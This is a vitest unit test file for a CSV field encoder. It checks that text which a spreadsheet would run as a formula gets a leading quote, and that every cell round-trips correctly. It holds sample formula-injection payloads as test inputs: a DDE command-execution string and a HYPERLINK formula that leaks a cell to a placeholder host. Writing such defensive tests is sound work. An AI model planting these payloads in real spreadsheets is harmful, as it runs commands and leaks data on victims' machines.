import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvField, csvRecord } from './csv'
import { parseCsv } from './csv.testdata'

describe('CSV cells', () => {
  it('prefix text a spreadsheet would run as a formula (OWASP: = + - @ TAB CR) with a quote', () => {
    expect(csvField("=cmd|' /C calc'!A0")).toBe(`'=cmd|' /C calc'!A0`)
    expect(csvField('=HYPERLINK("http://x/?leak="&A2,"click")')).toBe(`"'=HYPERLINK(""http://x/?leak=""&A2,""click"")"`)
    expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)")
    expect(csvField('+1')).toBe("'+1")
    expect(csvField('-3')).toBe("'-3") // text that looks like a number is still text: prefixed
    expect(csvField('\t=1')).toBe("'\t=1")
    expect(csvField('\r=1')).toBe(`"'\r=1"`)
    expect(csvField('a=1')).toBe('a=1')
    expect(csvField("'quoted")).toBe("'quoted")
  })

  it('write numbers as numbers, never prefixed, and null as an empty field', () => {
    expect(csvRecord([-3, 1.5, -0.001, 1e21, 0, null])).toBe('-3,1.5,-0.001,1e+21,0,')
  })

  it('any text reads back as itself, with one quote in front exactly when it starts a formula', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.string({
            unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', 'a', '1', '😀')
          }),
          { minLength: 1, maxLength: 5 }
        ),
        (cells) => {
          const [back] = parseCsv(`${csvRecord(cells)}\r\n`)
          expect(back).toHaveLength(cells.length)
          for (const [i, c] of cells.entries()) expect(back[i]).toBe(/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)
        }
      ),
      { numRuns: 300 }
    )
  })
})
